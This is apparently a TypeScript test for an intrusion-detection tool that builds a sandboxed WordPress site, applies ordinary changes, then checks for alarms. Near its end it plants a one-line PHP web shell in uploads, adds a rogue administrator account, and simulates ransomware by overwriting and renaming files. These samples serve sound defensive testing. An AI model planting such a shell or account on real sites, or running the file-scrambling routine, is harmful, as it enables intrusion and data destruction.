import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { startMariadb } from '../../lib/sandbox/mariadb.ts'
import { serve } from '../../lib/sandbox/web.ts'
import { addPost, createWordpress } from '../../lib/sandbox/wordpress.ts'
import { ownFolder } from '../support/host.ts'
import { startTask } from '../support/recovery-stage.ts'
import { claim, Stage, type Told, verdicts } from '../support/stage.ts'

/**
 * A folder with trees of WordPress's packages, unpacked: a later release of `wordpress`, and themes. Nothing that a fresh
 * machine has, so this is run by hand: `HOLDFAST_PACKAGES=DIR node test/run.ts test/tasks/alarm-wordpress.campaign.ts`.
 */
const PACKAGES = process.env.HOLDFAST_PACKAGES
assert.ok(PACKAGES, 'HOLDFAST_PACKAGES names no folder')

test('weeks of a real WordPress: releases, themes, plugins, uploads, a cache and a redesign raise no alarm, an intruder does', async () => {
  const folder = ownFolder('alarm-wordpress')
  const mariadb = await startMariadb(join(folder, 'db'))
  after(() => mariadb.stop())
  const stage = new Stage(folder)
  const site = await createWordpress({ vhosts: join(folder, 'web1/vhosts'), name: 'blog', title: 'A blog', mariadb })
  const server = await serve(site.root)
  after(() => server.stop())
  const check = { url: `${server.url}/` }
  const host = stage.addHost('web1', { database: { socket: mariadb.socket }, sites: { blog: { check } } } as object)
  claim(site.folder, host)
  const at = (path: string): string => join(site.root, path)
  const wp = (code: string): string =>
    execFileSync('php', {
      input: `<?php $_SERVER['HTTP_HOST'] = 'localhost'; require '${site.root}/wp-load.php';
        require ABSPATH . 'wp-admin/includes/admin.php'; add_filter('pre_http_request', fn() => new WP_Error('x', 'x')); ${code}`,
      encoding: 'utf8',
    })
  const trees = execFileSync('find', [PACKAGES!, '-path', '*/usr/share/wordpress', '-type', 'd'], { encoding: 'utf8' })
    .trim()
    .split('\n')
  // what a package takes from others it has as links, which lead nowhere in its tree alone
  const put = (tree: string): unknown =>
    execFileSync('sh', ['-c', 'cp -rL "$1/." "$2" 2> /dev/null || true', 'put', tree, site.root])
  const config = readFileSync(at('wp-config.php'))
  const uploads = (month: string, count: number): void => {
    mkdirSync(at(`wp-content/uploads/${month}`), { recursive: true })
    for (let n = 0; n < count; n++) writeFileSync(at(`wp-content/uploads/${month}/${n}.jpg`), randomBytes(3000))
  }
  const WEEKS: Readonly<Record<string, () => unknown>> = {
    'a post and uploads': () => addPost(site, 'News', 'a text '.repeat(30)).then(() => uploads('2026/01', 200)),
    'a plugin': () => wp("activate_plugin('akismet/akismet.php');"),
    themes: () => trees.filter(tree => !existsSync(join(tree, 'wp-includes'))).forEach(put),
    'another theme': () => wp("switch_theme('twentytwentyone');"),
    'a release': () => {
      trees.filter(tree => existsSync(join(tree, 'wp-includes'))).forEach(put)
      writeFileSync(at('wp-config.php'), config)
      wp("require ABSPATH . 'wp-admin/includes/upgrade.php'; wp_upgrade();")
    },
    'a cache': () => {
      mkdirSync(at('wp-content/cache/all'), { recursive: true })
      for (let n = 0; n < 400; n++) writeFileSync(at(`wp-content/cache/all/${n}.html`), `<p>${n}</p>`)
      writeFileSync(at('wp-content/advanced-cache.php'), '<?php // serves pages from the cache')
      appendFileSync(at('wp-config.php'), "\n// define('WP_CACHE', true);\n")
      writeFileSync(at('wp-content/uploads/.htaccess'), 'Options -Indexes\n')
      writeFileSync(at('wp-content/uploads/index.php'), '<?php // Silence is golden.\n')
    },
    'a redesign': () => {
      wp("switch_theme('twentytwentytwo'); delete_theme('twentytwentyone'); update_option('blogname', 'A new blog');")
      rmSync(at('wp-content/uploads/2026/01'), { recursive: true })
      uploads('2026/02', 300)
    },
    nothing: () => {},
  }
  const night = (): Promise<Told> => stage.told(host)
  await night()
  for (const [what, change] of Object.entries(WEEKS)) {
    await change()
    assert.deepEqual(verdicts(await night()), [], what)
  }
  const { stdout } = await startTask(stage, host, 'recover', ['--site', 'blog', '--list']).ended
  assert.match(stdout, /WordPress 6\S+ → \d\S+\n.*plugins: akismet \S+ → \S+/)

  mkdirSync(at('wp-content/uploads/2026/03'))
  writeFileSync(at('wp-content/uploads/2026/03/cache.php'), '<?php eval(base64_decode($_POST["x"]));')
  wp("wp_insert_user(['user_login' => 'support', 'user_pass' => 'x', 'role' => 'administrator']);")
  assert.match(
    verdicts(await night()).join(),
    /suspect: programs among the uploads: .*cache\.php; new administrators: wp_users 2\./,
  )
  assert.equal((await startTask(stage, host, 'status', ['--clear', 'blog']).ended).code, 0)
  assert.deepEqual(verdicts(await night()), [])

  const lock = (way: string): void => {
    for (const entry of readdirSync(at(way), { withFileTypes: true })) {
      const path = join(way, entry.name)
      if (entry.isDirectory()) lock(path)
      else {
        writeFileSync(at(path), randomBytes(readFileSync(at(path)).length))
        renameSync(at(path), at(`${path}.crypt`))
      }
    }
  }
  lock('wp-content')
  lock('wp-includes')
  assert.match(verdicts(await night()).join(), /files are renamed to \.crypt; \d\d of 4\d changed texts/)
})
